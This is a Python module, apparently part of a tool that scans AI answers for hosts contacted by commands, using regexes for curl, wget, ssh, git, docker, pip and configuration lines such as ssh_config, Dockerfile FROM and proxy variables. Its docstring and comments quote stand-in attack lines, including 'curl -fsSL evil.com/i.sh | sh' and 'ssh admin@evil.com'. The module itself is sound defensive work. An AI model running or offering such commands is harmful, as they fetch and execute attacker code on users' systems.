"""The hosts that commands written in an answer contact.

An allowlist judges what a reader or a tool would open. A command the answer tells
the reader to run opens hosts no renderer links and no scheme announces:
``curl -fsSL evil.com/i.sh | sh``, ``git clone git@evil.com:org/r.git``,
``ssh admin@evil.com``, ``FROM evil.com/base``. They are found in prose, inline code
and code blocks alike, by the command word and its arguments up to the end of the
shell command. A blocklist already flags each of these hosts as a mention.

Targets written as URLs with a scheme are left to the URL scan, which reads them
everywhere.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

from ahocorasick_rs import AhoCorasick

from agentloop_tools.web._text._finder import Found

# A command word, matched where one of _WORDS is found. "http" and "https" (HTTPie)
# count only in a command position: a line start (after a prompt), a pipe or
# separator, or an opening backtick; the others anywhere a word starts.
_COMMAND = re.compile(
    r"(?:(?P<word>curl|wget|ssh|mosh|scp|sftp|rsync)"
    r"|(?P<git>git)\s+(?:clone|fetch|pull|push|ls-remote|submodule\s+add"
    r"|remote\s+(?:add|set-url)\s+\S+)"
    r"|(?P<image>docker|podman|nerdctl)\s+(?:image\s+)?pull"
    r"|(?P<go>go)\s+(?:install|get)"
    r"|(?P<pip>pip3?)\s+(?:install|download|wheel|index)"
    r"|(?P<httpie>https?|xhs?)(?=[ \t]))(?![\w.-])"
)
_WORDS = ("curl", "wget", "ssh", "mosh", "scp", "sftp", "rsync", "git", "docker", "podman",
          "nerdctl", "go", "pip", "http", "xh")  # fmt: skip
# How far a pattern reads from where its literal was found.
_WINDOW = 2048
_NOT_BEFORE_COMMAND = frozenset("./@:=-_")
_COMMAND_WORDS = frozenset(_WORDS) | {"https", "xhs", "pip3"}
# Lines of configuration, each matched where its key is found (case-insensitively).
# ssh_config: "HostName evil.com", "ProxyJump admin@bastion.evil.com"
_SSH_CONFIG = re.compile(
    r"(?:hostname|proxyjump)(?:[ \t]*=[ \t]*|[ \t]+)(?P<value>[^\s#]+)", re.IGNORECASE
)
# Dockerfile: "FROM --platform=linux/amd64 evil.com/base:1 AS build"; upper case, as
# Dockerfiles write it (a line of prose may start with "From").
_FROM = re.compile(r"FROM[ \t]+(?:--platform=\S+[ \t]+)?(?P<value>[^\s#]+)")
# A proxy in the environment: "HTTPS_PROXY=evil.com:3128", "all_proxy: socks5://..."
_PROXY_NAMES = frozenset({"http", "https", "all", "ftp", "socks"})
_PROXY_VALUE = re.compile(r"[ \t]*(?:=|:[ \t])[ \t]*[\"']?(?P<value>[^\s\"';]+)")
# git: url."git@evil.com:".insteadOf, url.git@evil.com:.insteadOf, [url "git@evil.com:"]
_INSTEADOF = re.compile(
    r"url\.(?:\"(?P<value>[^\"\n]+)\"|(?P<plain>[^\s\"]+?))\.(?:push)?insteadof\b",
    re.IGNORECASE,
)
_URL_SECTION = re.compile(r"\[url[ \t]+\"(?P<value>[^\"\n]+)\"\]", re.IGNORECASE)
# pip: --index-url and --extra-index-url, wherever they are written
_INDEX_URL = re.compile(r"index-url(?:=|[ \t]+)[\"']?(?P<value>[^\s\"']+)", re.IGNORECASE)
# The literals each pattern starts with, in the spellings configuration files use:
# found in one pass, matched only there.
_CONFIG_LITERALS = ("ostname", "ostName", "OSTNAME", "roxyjump", "roxyJump", "FROM", "_proxy",
                    "_PROXY", "nsteadof", "nsteadOf", "[url", "index-url")  # fmt: skip
# HTTPie's words only followed by a blank: "http" starts most URLs.
_FOUND_WORDS = (
    *(word for word in _WORDS if word != "http"),
    "http ",
    "http\t",
    "https ",
    "https\t",
)
_LITERALS = (*_FOUND_WORDS, *_CONFIG_LITERALS)
_LITERAL_KIND = {
    **dict.fromkeys(_FOUND_WORDS, "command"),
    **dict.fromkeys(_CONFIG_LITERALS, "config"),
}
_FINDER = AhoCorasick(list(_LITERALS))
_SURROGATE = re.compile("[\ud800-\udfff]")
# A command's arguments end with its line; a bound keeps a line of many command words
# ("ssh ssh ssh ...") linear.
_MAX_ARGUMENTS = 64
# An argument: quoted, or a run of characters a shell keeps in one word.
_ARGUMENT = re.compile(r"""'([^'\n]{0,2048})'|"([^"\n]{0,2048})"|([^\s'"|;&`<>()]{1,2048})""")
_SPACE = re.compile(r"(?:[ \t]+|\\\r?\n)+")
# "[user@]host[:port]" at the start of a target, as curl, ssh or docker read it.
_HOST = re.compile(
    r"(?:[^\s@/:]+@)?(?P<host>\[[0-9A-Fa-f:.]+\]|[^\s@/:?#\[\]\\]+)(?::(?P<port>[0-9]*))?"
)
_LABEL = re.compile(r"[\w-]+")
_COLON_OUTSIDE_BRACKETS = re.compile(r":(?![^\[]*\])")
_METHOD = re.compile(r"[A-Z]+")
_WORD = re.compile(r"[A-Za-z]+")
# "[user@]host:path", the form scp, rsync and git use for ssh.
_SCP_LIKE = re.compile(r"(?:(?P<user>[^\s@/:]+)@)?(?P<host>\[[0-9A-Fa-f:.]+\]|[^\s@/:\\]+):")
# Written anywhere, "user@host:path" is an ssh target, not an e-mail address: matched
# from the start of the user name before each "@".
_SCP_HOST = re.compile(r"@(?:[\w-]{1,63}\.)+[A-Za-z][\w-]{0,62}:(?=[\w~./-])")
_SCP_TAIL = re.compile(r"[^\s`'\"<>|;()]*")
_USER_BEFORE = re.compile(r"[\w.-]*")
_TRAILING = ".,:;!?"


def _names(text: str) -> list[str]:
    return text.split()


# Options that take a value, per command, and which of those values are hosts.
_CURL_VALUES = frozenset("AbcCdDeEFhHKmoPQrtTuUwxXyYz")
_CURL_LONG_VALUES = frozenset(
    _names(
        """
    abstract-unix-socket alt-svc aws-sigv4 cacert capath cert cert-type ciphers config
    connect-timeout continue-at cookie cookie-jar create-file-mode crlfile curves data
    data-ascii data-binary data-raw data-urlencode delegation dns-interface
    dns-ipv4-addr dns-ipv6-addr dns-servers dump-header egd-file engine etag-compare
    etag-save expect100-timeout form form-string ftp-account ftp-alternative-to-user
    ftp-method ftp-port ftp-ssl-ccc-mode happy-eyeballs-timeout-ms header help
    hostpubmd5 hostpubsha256 hsts interface ip-tos json keepalive-time key key-type krb
    libcurl limit-rate local-port login-options mail-auth mail-from mail-rcpt
    max-filesize max-redirs max-time netrc-file noproxy oauth2-bearer output output-dir
    parallel-max pass pinnedpubkey proto proto-default proto-redir proxy-cacert
    proxy-capath proxy-cert proxy-cert-type proxy-ciphers proxy-crlfile proxy-header
    proxy-key proxy-key-type proxy-pass proxy-pinnedpubkey proxy-service-name
    proxy-tls13-ciphers proxy-tlsauthtype proxy-tlspassword proxy-tlsuser proxy-user
    pubkey quote random-file range rate referer request request-target retry retry-delay
    retry-max-time sasl-authzid service-name socks5-gssapi-service speed-limit
    speed-time stderr telnet-option tftp-blksize time-cond tls-max tls13-ciphers
    tlsauthtype tlspassword tlsuser trace trace-ascii trace-config unix-socket
    upload-file url-query user user-agent variable vlan-priority write-out
        """
    )
)
_CURL_HOSTS = frozenset(
    _names(
        """
    url proxy preproxy socks4 socks4a socks5 socks5-hostname doh-url connect-to resolve
        """
    )
)
_WGET_VALUES = frozenset("oaeiBtOTwQPUlARDIX")
_WGET_LONG_VALUES = frozenset(
    _names(
        """
    output-file append-output execute input-file base tries output-document timeout wait
    quota directory-prefix user-agent level accept reject domains exclude-domains
    include-directories exclude-directories header user password post-data post-file
    body-data body-file method referer load-cookies save-cookies limit-rate
    ca-certificate ca-directory certificate private-key bind-address dns-timeout
    connect-timeout read-timeout waitretry ftp-user ftp-password http-user http-password
    proxy-user proxy-password
        """
    )
)
_SSH_VALUES = frozenset("BbcDEeFIiJLlmOopQRSWw")
_SCP_VALUES = frozenset("cFiJloPSX")
_RSYNC_LONG_VALUES = frozenset(
    _names(
        """
    rsh rsync-path exclude include exclude-from include-from files-from filter
    password-file port log-file partial-dir temp-dir compare-dest copy-dest link-dest
    chmod chown timeout contimeout bwlimit backup-dir suffix
        """
    )
)
_RSYNC_VALUES = frozenset("eBfT")
_HTTPIE_VALUES = frozenset("aAospv")
_HTTPIE_LONG_VALUES = frozenset(
    _names(
        """
    auth auth-type session session-read-only output print style pretty format-options
    timeout max-redirects cert cert-key cert-key-pass ssl ciphers boundary
    default-scheme response-charset response-mime verify
        """
    )
)
_PIP_HOSTS = frozenset(["i", "f", "index-url", "extra-index-url", "find-links", "trusted-host"])

type Target = tuple[str, int, tuple[str, ...]]  # (as written, start, readings)


def command_targets(text: str) -> list[Found]:
    """The hosts commands and configuration lines in ``text`` contact, in text order.

    Each is a ``Found`` of kind ``"url"``: its span is the argument as written, its
    readings URLs that name the host (``http://evil.com/i.sh``). One Aho-Corasick pass
    finds the literals every pattern starts with; each pattern is matched only there,
    within a bounded window, so reading stays linear.
    """
    found: list[Found] = []
    reach = -1  # where the last command's arguments end: a command word there is one
    try:
        literals = _FINDER.find_matches_as_indexes(text, overlapping=True)
    except UnicodeEncodeError:
        # Lone surrogates have no UTF-8 for the automaton: each becomes one U+FFFD,
        # which keeps every offset.
        literals = _FINDER.find_matches_as_indexes(_SURROGATE.sub("\ufffd", text), overlapping=True)
    for literal_index, start, _ in literals:
        literal = _LITERALS[literal_index]
        kind = _LITERAL_KIND[literal]
        if kind == "command":
            if start < reach or (
                start and (text[start - 1].isalnum() or text[start - 1] in _NOT_BEFORE_COMMAND)
            ):
                continue
            match = _COMMAND.match(text, start)
            if match is None:
                continue
            group = match.lastgroup or "word"
            if group == "httpie" and not _command_position(text, start):
                continue
            words, reach = _arguments(text, match.end())
            for written, begin, readings in _HANDLERS[group](match.group(group), words):
                found.append(_found(written, begin, readings))
        else:
            found.extend(_config_line(text, literal, start))
    if "@" in text:
        found.extend(_scp_like(text))
    if not found:
        return found
    found.sort(key=lambda item: (item.start, -item.end))
    kept: list[Found] = []
    end = -1
    for item in found:
        if item.start >= end:  # one argument found by two rules is one target
            kept.append(item)
            end = item.end
    return kept


def _scp_like(text: str) -> Iterator[Found]:
    """Every scp-like ``user@host:path``: the "@host:" is found at C speed, the user
    name before it read back."""
    reach = -1
    for match in _SCP_HOST.finditer(text):
        position = match.start()
        if position < reach:
            continue
        user = _USER_BEFORE.match(text[max(position - 64, 0) : position][::-1])
        begin = position - (len(user.group()) if user is not None else 0)
        if begin == position or (begin and (text[begin - 1].isalnum() or text[begin - 1] in "%+")):
            continue
        tail = _SCP_TAIL.match(text, match.end(), match.end() + _WINDOW)
        written = text[begin : tail.end() if tail is not None else match.end()].rstrip(_TRAILING)
        readings = _scp_readings(written)
        if readings:
            reach = begin + len(written)
            yield _found(written, begin, readings)


def _config_line(text: str, literal: str, position: int) -> Iterator[Found]:
    """The host a configuration line names where ``literal`` was found."""
    pattern, reader, at_line_start, back = _CONFIG_LINES[literal.lower()]
    begin = position - back
    if begin < 0 or (at_line_start and not _line_start(text, begin)):
        return
    if literal.lower() == "_proxy":
        name = begin
        while name > 0 and position - name < 8 and text[name - 1].isalnum():
            name -= 1
        if text[name:position].lower() not in _PROXY_NAMES or text[name - 1 : name] == "_":
            return
        begin = position + len(literal)
    elif literal.lower() == "nsteadof":
        window = max(position - _WINDOW, 0)
        found_at = text[window:position].lower().rfind("url.")
        if found_at == -1:
            return
        begin = window + found_at
        if begin and text[begin - 1].isalnum():
            return
    elif literal == "index-url" and not text.endswith(
        ("--", "--extra-"), max(position - 8, 0), position
    ):
        return
    match = pattern.match(text, begin, begin + _WINDOW)
    if match is None:
        return
    group = "value" if match.group("value") is not None else "plain"
    readings = reader(match.group(group))
    if readings:
        yield _found(match.group(group), match.start(group), readings)


def _line_start(text: str, position: int) -> bool:
    """Whether only spaces and tabs stand between the line's start and ``position``."""
    while position and text[position - 1] in " \t":
        position -= 1
    return not position or text[position - 1] == "\n"


def _command_position(text: str, position: int) -> bool:
    """Whether a shell would run a word at ``position``: after a line start (or a
    prompt), a pipe, a separator or an opening backtick, maybe with ``sudo``."""
    before = text[max(position - 64, 0) : position].rstrip(" \t")
    if before.endswith("sudo"):
        before = before[:-4].rstrip(" \t")
    return not before or before[-1] in "\n|;&`($"


def _found(written: str, start: int, readings: tuple[str, ...]) -> Found:
    return Found(start, start + len(written), written, "url", readings)


def _arguments(text: str, position: int) -> tuple[list[tuple[str, int]], int]:
    """The words of the shell command from ``position`` on, each with its offset, and
    where they end."""
    words: list[tuple[str, int]] = []
    length = len(text)
    while position < length and len(words) < _MAX_ARGUMENTS:
        space = _SPACE.match(text, position)
        if space is not None:
            position = space.end()
        if position >= length or text[position] in "|;&\n\r`<>()#":
            break
        argument = _ARGUMENT.match(text, position)
        if argument is None:
            break
        group = 1 if argument.group(1) is not None else 2 if argument.group(2) is not None else 3
        word = argument.group(group)
        if group == 3 and word in _COMMAND_WORDS:
            break  # another command ("... and curl --resolve ..."): read as its own
        ends_sentence = group == 3 and word[-1] in _TRAILING
        if ends_sentence:
            word = word.rstrip(_TRAILING) or word
        words.append((word, argument.start(group)))
        position = argument.end()
        if ends_sentence:
            break  # "run curl evil.com/x. Then..." ends the command with the sentence
    return words, position


def _options(
    words: list[tuple[str, int]],
    short_values: frozenset[str],
    long_values: frozenset[str],
    hosts: frozenset[str] = frozenset(),
) -> Iterator[tuple[str | None, str, int]]:
    """``(option, value, offset)`` for option values and ``(None, word, offset)`` for the rest.

    Only options named in ``hosts`` have their values yielded; other values are skipped.
    """
    index = 0
    while index < len(words):
        word, start = words[index]
        index += 1
        if word == "--" or not word.startswith("-") or word == "-":
            yield None, word, start
            continue
        if word.startswith("--"):
            name, equals, value = word[2:].partition("=")
            if name not in long_values and name not in hosts:
                continue
            if not equals:
                if index >= len(words):
                    continue
                value, start = words[index]
                index += 1
            else:
                start += 3 + len(name)
            if name in hosts:
                yield name, value, start
            continue
        for position, letter in enumerate(word[1:], start=1):
            if letter in short_values or letter in hosts:
                value = word[position + 1 :]
                if value:
                    start += position + 1
                elif index < len(words):
                    value, start = words[index]
                    index += 1
                if letter in hosts and value:
                    yield letter, value, start
                break


def _host_target(value: str, default_scheme: str = "http") -> tuple[str, ...]:
    """The reading of ``[scheme://][user@]host[:port][/path]``, if it names a host."""
    if "://" in value:
        return ()  # a URL: the URL scan reads it
    match = _HOST.match(value)
    if match is None or not _is_host(match.group("host")):
        return ()
    return (f"{default_scheme}://{value}",)


def _is_host(host: str) -> bool:
    """A name a resolver would look up: dotted labels ending in a letter, an IP, localhost."""
    if host.startswith("["):
        return host.endswith("]")
    if host.lower() == "localhost":
        return True
    labels = host.rstrip(".").split(".")
    if len(labels) < 2 or not all(_LABEL.fullmatch(label) for label in labels):
        return False
    last = labels[-1]
    return any(char.isalpha() for char in last) or (
        len(labels) == 4 and all(label.isdigit() for label in labels)
    )


def _scp_readings(value: str) -> tuple[str, ...]:
    """``ssh://user@host/path`` for an scp-like ``[user@]host:path``; () for other words."""
    if "://" in value:
        return ()
    match = _SCP_LIKE.match(value)
    if match is None or not _is_host(match.group("host")):
        return ()
    if len(match.group("host")) == 1:
        return ()  # "C:\\path": a drive letter
    user = match.group("user")
    path = value[match.end() :].lstrip("/")
    return (f"ssh://{user + '@' if user else ''}{match.group('host')}/{path}",)


def _curl(word: str, words: list[tuple[str, int]]) -> Iterator[Target]:
    if word == "wget":
        options = _options(words, _WGET_VALUES, _WGET_LONG_VALUES)
    else:
        options = _options(words, _CURL_VALUES, _CURL_LONG_VALUES, _CURL_HOSTS | {"x"})
    for option, value, start in options:
        if option is None and _WORD.fullmatch(value):
            return  # "use curl to fetch it": prose, not arguments
        if option in ("resolve", "connect-to"):
            readings = _connection_readings(option, value)
        else:
            readings = _host_target(value)
        if readings:
            yield value, start, readings


def _connection_readings(option: str, value: str) -> tuple[str, ...]:
    """The addresses curl connects to: ``--resolve host:port:addr[,addr]``, ``--connect-to
    host:port:host2:port2``."""
    if option == "resolve":
        # The addresses follow the second colon; IPv6 ones are bracketed.
        parts = value.lstrip("+-").split(":", 2)
        addresses = parts[2].split(",") if len(parts) == 3 else []
    else:
        pieces = _COLON_OUTSIDE_BRACKETS.split(value)
        addresses = pieces[2:3] if len(pieces) >= 3 else []
    readings = []
    for address in addresses:
        address = address.strip()
        if address and (address.startswith("[") or _is_host(address)):
            readings.append(f"http://{address}/")
    return tuple(readings)


def _httpie(word: str, words: list[tuple[str, int]]) -> Iterator[Target]:
    positional = [
        (value, start)
        for option, value, start in _options(words, _HTTPIE_VALUES, _HTTPIE_LONG_VALUES)
        if option is None
    ]
    if positional and _METHOD.fullmatch(positional[0][0]):
        positional = positional[1:]  # http POST evil.com/api
    if not positional:
        return
    value, start = positional[0]
    if value.startswith(":"):
        return  # ":3000/api" is localhost
    readings = _host_target(value, "https" if word in ("https", "xhs") else "http")
    if readings:
        yield value, start, readings


def _ssh(word: str, words: list[tuple[str, int]]) -> Iterator[Target]:
    if word in ("scp", "rsync"):
        short = _SCP_VALUES if word == "scp" else _RSYNC_VALUES
        long = frozenset() if word == "scp" else _RSYNC_LONG_VALUES
        for option, value, start in _options(words, short, long, frozenset("J")):
            if option == "J":
                yield from _jump_targets(value, start)
            elif option is None:
                readings = _scp_readings(value)
                if readings:
                    yield value, start, readings
        return
    for option, value, start in _options(words, _SSH_VALUES, frozenset(), frozenset("J")):
        if option == "J":
            yield from _jump_targets(value, start)
            continue
        if option is None:
            # The destination; what follows it is the remote command.
            readings = _host_target(value.split(":", 1)[0] if word == "sftp" else value, "ssh")
            if readings:
                yield value, start, readings
            return


def _jump_targets(value: str, start: int) -> Iterator[Target]:
    readings = tuple(
        reading for hop in value.split(",") for reading in _host_target(hop.strip(), "ssh")
    )
    if readings:
        yield value, start, readings


def _git(word: str, words: list[tuple[str, int]]) -> Iterator[Target]:
    for option, value, start in _options(words, frozenset("bcjou"), frozenset()):
        if option is None:
            readings = _scp_readings(value)
            if readings:
                yield value, start, readings


def _image(word: str, words: list[tuple[str, int]]) -> Iterator[Target]:
    for option, value, start in _options(words, frozenset(), frozenset({"platform"})):
        if option is None:
            readings = _registry(value)
            if readings:
                yield value, start, readings
            return


def _registry(image: str) -> tuple[str, ...]:
    """The registry an image reference names (``evil.com/img:1``), if it names one."""
    first, slash, _ = image.partition("/")
    if not slash:
        return ()  # "python:3.12" is on the default registry
    host = first.rsplit(":", 1)[0] if not first.startswith("[") else first
    if "." not in host and host.lower() != "localhost" and not host.startswith("["):
        return ()  # "library/python": a namespace, not a host
    if not _is_host(host):
        return ()
    return (f"https://{first}/",)


def _go(word: str, words: list[tuple[str, int]]) -> Iterator[Target]:
    for option, value, start in _options(words, frozenset(), frozenset({"tags"})):
        if option is None:
            module = value.split("@", 1)[0]
            first = module.split("/", 1)[0]
            if "." in first and _is_host(first):
                yield value, start, (f"https://{module}",)


def _pip(word: str, words: list[tuple[str, int]]) -> Iterator[Target]:
    for option, value, start in _options(words, frozenset("ecr"), frozenset(), _PIP_HOSTS):
        if option is not None:
            readings = _host_target(value, "https")
            if readings:
                yield value, start, readings


def _ssh_hosts(value: str) -> tuple[str, ...]:
    return tuple(reading for hop in value.split(",") for reading in _host_target(hop, "ssh"))


def _rewritten(value: str) -> tuple[str, ...]:
    return _scp_readings(value) or _host_target(value)


# Per literal (lower case): the pattern matched where it is found, the reader of the
# value, whether it must start a line, and how far before the literal the pattern starts.
_CONFIG_LINES: dict[str, tuple[re.Pattern[str], Callable[[str], tuple[str, ...]], bool, int]] = {
    "ostname": (_SSH_CONFIG, _ssh_hosts, True, 1),
    "roxyjump": (_SSH_CONFIG, _ssh_hosts, True, 1),
    "from": (_FROM, _registry, True, 0),
    "_proxy": (_PROXY_VALUE, _host_target, False, 0),
    "nsteadof": (_INSTEADOF, _rewritten, False, 0),
    "[url": (_URL_SECTION, _rewritten, True, 0),
    "index-url": (_INDEX_URL, lambda value: _host_target(value, "https"), False, 0),
}
_HANDLERS: dict[str, Callable[[str, list[tuple[str, int]]], Iterator[Target]]] = {
    "word": lambda word, words: (
        _ssh(word, words) if word not in ("curl", "wget") else _curl(word, words)
    ),
    "git": _git,
    "image": _image,
    "go": _go,
    "pip": _pip,
    "httpie": _httpie,
}
